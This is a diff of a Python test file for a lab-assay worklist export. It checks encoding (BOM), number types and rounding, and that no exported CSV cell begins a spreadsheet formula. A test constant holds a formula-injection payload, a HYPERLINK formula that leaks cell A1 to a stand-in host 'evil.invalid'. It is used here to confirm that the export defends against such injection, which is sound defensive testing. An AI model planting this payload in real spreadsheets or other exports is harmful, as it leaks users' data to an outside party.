@@ -22,7 +22,7 @@ HYPERLINK = '=HYPERLINK("http://evil.invalid/?leak="&A1,"click me")'
 
 def read_cells(path: Path) -> list[dict[str, str]]:
     """The CSV as a spreadsheet receives it: raw text cells."""
-    with path.open(newline="", encoding="utf-8") as fh:
+    with path.open(newline="", encoding="utf-8-sig") as fh:  # as Excel does: BOM = UTF-8
         return list(csv.DictReader(fh))
 
 
@@ -74,8 +74,20 @@ def test_export_of_a_worklist_with_formula_sample_ids(tmp_path: Path, assay: Ass
     for row in cells.values():  # no text cell of the export starts a formula
         assert not any(v.startswith(FORMULA_START) for v in row.values()), row
     frame = pl.read_csv(tmp_path / "r.csv")
-    assert frame.schema["analyte_area"] == pl.Float64  # numbers are still numbers
+    assert frame.schema["analyte_area"] == pl.Int64  # numbers are still numbers (counts)
     assert frame.schema["accuracy_pct"] == pl.Float64
+    raw = (tmp_path / "r.csv").read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8, not the ANSI page
+    assert {c["unit"] for c in cells.values() if c["unit"]} == {"µM"}
+    for row in cells.values():  # the documented rounding, cell by cell as written
+        for col in ("conc_vial", "conc"):
+            if row[col]:
+                digits = row[col].replace(".", "").replace("-", "").lstrip("0")
+                assert len(digits.rstrip("0") or "0") <= 3, (col, row[col])
+        for col in ("analyte_area", "is_area"):
+            assert row[col] == "" or row[col].isdigit(), (col, row[col])
+        for col in ("accuracy_pct", "is_pct"):
+            assert row[col] == "" or len(row[col].split(".")[-1]) <= 1, (col, row[col])
     parquet = pl.read_parquet(tmp_path / "r.parquet")  # typed: the value as the lab wrote it
     ids = dict(zip(parquet["file"], parquet["sample_id"], strict=True))
     assert ids["016_S0001.mzML"] == HYPERLINK and ids["017_S0002.mzML"] == "-12"
